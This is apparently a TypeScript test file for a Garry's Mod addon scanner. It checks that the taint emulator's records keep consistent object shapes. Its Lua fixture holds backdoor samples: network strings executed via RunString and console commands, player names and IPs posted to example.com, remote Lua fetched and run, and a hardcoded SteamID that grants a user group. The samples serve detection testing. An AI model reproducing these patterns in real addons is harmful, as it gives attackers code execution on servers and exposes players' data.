// The records the emulator makes in numbers (taint sources, events, frames, API values,
// closures) have one set of fields, in one order, per kind: every one is made whole by one
// literal. A field added afterwards (`source.numeric = true`) or by a spread copy that adds
// one (`{ ...s, numeric: true }`) gives an object a shape that only lives as long as such
// objects do; V8 drops it between scans, and the optimised code reading those objects meets
// it as new at the next scan, is thrown away and compiled again on the core the other scan
// thread needs (docs/performance.md, session 19). The field names in order are what
// JavaScript shows of a shape, so that is what these tests compare.
import { describe, expect, it } from 'vitest';
import type { ArchiveEntry } from '../archive/types.js';
import { loadThreatIntel } from '../intel/index.js';
import { parseLua, type Node } from '../lua/index.js';
import { analyzeAddon } from './index.js';
import type { TaintSource, Value } from './values.js';

function entries(files: Record<string, string>): ArchiveEntry[] {
  return Object.entries(files).map(([path, text]) => {
    const bytes = new TextEncoder().encode(text);
    return { path, size: bytes.length, depth: 0, kind: 'lua', bytes };
  });
}

/** Each distinct list of field names among `objects`, with how many objects have it. */
function shapes(objects: readonly object[]): Map<string, number> {
  const out = new Map<string, number>();
  for (const o of objects) {
    const key = Object.keys(o).join(',');
    out.set(key, (out.get(key) ?? 0) + 1);
  }
  return out;
}

// An addon that makes every kind of record several ways: sources read as text and as
// numbers, escaped for SQL and made text again, aliases, free globals, APIs reached by
// decoded names and as callbacks, overrides, `_G` look-ups, handlers of each registering API.
const ADDON = {
  'lua/autorun/server/sv_shapes.lua': `
local run = RunString
local ops = { function(s) run(s) end, function(s) print(s) end }
net.Receive("shapes_exec", function(len, ply)
  local code = net.ReadString()
  local n = net.ReadUInt(8) + 1
  game.ConsoleCommand(n)
  ops[n](code)
  local q = "SELECT * FROM t WHERE id = " .. sql.SQLStr(code)
  sql.Query(q)
  RunString(string.char(n, n + 1) .. code)
  _G[net.ReadString()](code)
  _G["Run" .. "String"](code)
  local name = ply:Nick()
  local ip = ply:IPAddress()
  http.Post("https://example.com/log", { n = name, ip = ip })
  MyUndefinedGlobal.Do(code)
  timer.Simple(1, function() game.ConsoleCommand(code .. "\\n") end)
end)
concommand.Add("shapes_cmd", function(ply, cmd, args)
  if ply:SteamID() == "STEAM_0:1:1234567" then ply:SetUserGroup(args[1]) end
end)
hook.Add("PlayerSay", "shapes_say", function(ply, text)
  local co = coroutine.wrap(function(t) RunString(t) end)
  co(text)
  BroadcastLua(string.format("MsgN(%q)", text))
  string.gsub(text, "^!run (.+)$", RunString)
end)
timer.Simple(1, run)
timer.Simple(2, _G["Run" .. "String"])
timer.Simple(3, RunString)
timer.Simple(4, MyAddonTable.Thing)
function player.GetAll() return {} end
_G.print = function(...) end
http.Fetch("https://example.com/x.lua", function(body) RunString(body) end)
`,
};

describe('record shapes', () => {
  const analysis = analyzeAddon(entries(ADDON), { intel: loadThreatIntel() });
  const values: Value[] = analysis.calls.flatMap((c) => c.args);
  const sources: TaintSource[] = values.flatMap((v) =>
    (v.k === 'str' || v.k === 'num' || v.k === 'unk') && v.taint ? [...v.taint] : [],
  );
  const frames = analysis.calls.flatMap((c) => [...c.ctx]);

  it('gives every taint source one shape, whether read as text, as a number, escaped or quoted', () => {
    expect(sources.some((s) => s.numeric)).toBe(true);
    expect(sources.some((s) => s.escaped)).toBe(true);
    expect(sources.some((s) => s.quoted)).toBe(true);
    expect(sources.some((s) => !s.numeric && !s.escaped)).toBe(true);
    expect([...shapes(sources).keys()]).toEqual(['kind,label,file,line,escaped,numeric,quoted']);
  });

  it('gives every call event one shape, with or without an alias', () => {
    expect(analysis.calls.some((c) => c.alias !== undefined)).toBe(true);
    expect(analysis.calls.some((c) => c.alias === undefined)).toBe(true);
    expect(shapes(analysis.calls).size).toBe(1);
  });

  it('gives every handler and guard frame one shape', () => {
    expect(frames.some((f) => f.kind === 'handler' && f.fnOffset !== undefined)).toBe(true);
    expect(frames.some((f) => f.kind !== 'handler')).toBe(true);
    expect(shapes(frames).size).toBe(1);
  });

  it('gives index and override events one shape each', () => {
    expect(analysis.indexes.length).toBeGreaterThan(1);
    expect(shapes(analysis.indexes).size).toBe(1);
    expect(analysis.overrides.some((o) => o.fn !== undefined)).toBe(true);
    expect(shapes(analysis.overrides).size).toBe(1);
  });

  it('gives every API value one shape, however it was reached', () => {
    const apis = values.filter((v) => v.k === 'api');
    expect(new Set(apis.map((a) => a.via)).size).toBeGreaterThan(1);
    expect(shapes(apis).size).toBe(1);
  });

  it('gives call nodes and method bases their slots when parsed', () => {
    const { chunk } = parseLua('f(1) f"x" f{} a:b(2) local x = a.b');
    const calls: Node[] = [];
    const members: Node[] = [];
    const visit = (n: unknown): void => {
      if (n === null || typeof n !== 'object') return;
      if (Array.isArray(n)) return n.forEach(visit);
      const node = n as Node;
      if (/CallExpression$/.test(node.type)) calls.push(node);
      if (node.type === 'MemberExpression' && node.indexer === ':') members.push(node);
      for (const v of Object.values(node)) visit(v);
    };
    visit(chunk);
    expect(calls).toHaveLength(4);
    for (const c of calls) expect(Object.keys(c)).toContain('emuApi');
    expect(members).toHaveLength(1);
    expect(Object.keys(members[0]!)).toContain('emuMethod');
  });
});
